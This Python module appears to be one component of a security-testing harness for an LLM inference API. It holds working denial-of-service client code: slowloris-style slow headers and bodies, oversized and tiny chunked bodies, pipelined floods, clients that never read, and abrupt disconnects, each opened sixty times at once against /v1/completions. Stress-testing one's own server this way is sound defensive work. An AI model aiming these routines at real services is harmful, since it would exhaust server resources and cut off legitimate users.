"""HTTP clients that send too much, too slowly or incompletely, do not read, or disconnect."""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import Callable, Coroutine
from typing import TypeAlias

from ..attack import Attack, Seen, Target

Kind: TypeAlias = Callable[[Target, asyncio.StreamReader, asyncio.StreamWriter], Coroutine[None, None, None]]
CONNECTIONS = 60
HEAD = "POST /v1/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"


async def attack(target: Target, seen: Seen) -> None:
    kinds = (
        _slow_headers,
        _slow_body,
        _giant_body,
        _small_chunks,
        _trailers,
        _half_body,
        _pipelined,
        _never_read,
        _half_closed,
        _leaves,
    )
    async with asyncio.TaskGroup() as tasks:
        for kind in kinds:
            for _ in range(CONNECTIONS):
                tasks.create_task(_counted(kind, target, seen))


async def _counted(kind: Kind, target: Target, seen: Seen) -> None:
    host, _, port = target.http.rpartition(":")
    try:
        reader, writer = await asyncio.open_connection(host, int(port))
    except OSError:
        seen["not connected"] += 1
        return
    with contextlib.suppress(ConnectionError):
        await kind(target, reader, writer)
    writer.close()
    seen["closed"] += 1


def _request(target: Target, **fields: object) -> bytes:
    body = {"prompt": "Once upon a time", "max_tokens": 400, "ignore_eos": True, "stream": True} | fields
    data = json.dumps(body).encode()
    head = f"{HEAD}authorization: Bearer {target.token}\r\ncontent-length: {len(data)}\r\n\r\n"
    return head.encode() + data


async def _slow_headers(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    for character in HEAD[: round(target.seconds * 2)]:
        writer.write(character.encode())
        await writer.drain()
        await asyncio.sleep(0.5)


async def _slow_body(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_request(target)[:-20])
    await asyncio.sleep(target.seconds)


async def _giant_body(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    head = f"{HEAD}authorization: Bearer {target.token}\r\ntransfer-encoding: chunked\r\n\r\n"
    writer.write(head.encode())
    for _number in range(200):
        writer.write(b"10000\r\n" + b"[" * 2**16 + b"\r\n")
        await writer.drain()


async def _small_chunks(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await _chunked(target, writer, b"1\r\n \r\n")


async def _trailers(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await _chunked(target, writer, b"a: bcd\r\n", first=b"1\r\n \r\n0\r\n")


async def _chunked(target: Target, writer: asyncio.StreamWriter, piece: bytes, first: bytes = b"") -> None:
    head = f"{HEAD}authorization: Bearer {target.token}\r\ntransfer-encoding: chunked\r\n\r\n"
    writer.write(head.encode() + first)
    for _number in range(200):
        writer.write(piece * 10_000)
        await writer.drain()


async def _half_body(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    head = f"{HEAD}authorization: Bearer {target.token}\r\ncontent-length: 1000000\r\n\r\n"
    writer.write(head.encode() + b" " * 999_999)
    await asyncio.sleep(target.seconds)


async def _pipelined(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_request(target) * 500)
    await writer.drain()
    await asyncio.sleep(target.seconds)


async def _never_read(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    writer.write(_request(target, logprobs=20, n=2))
    await asyncio.sleep(target.seconds)


async def _half_closed(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_request(target))
    writer.write_eof()
    await asyncio.wait_for(reader.read(2**16), target.seconds + 5)


async def _leaves(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_request(target))
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(reader.read(100), 5)
    writer.transport.abort()


ATTACK = Attack(name="http-clients", finding="H1", run=attack)
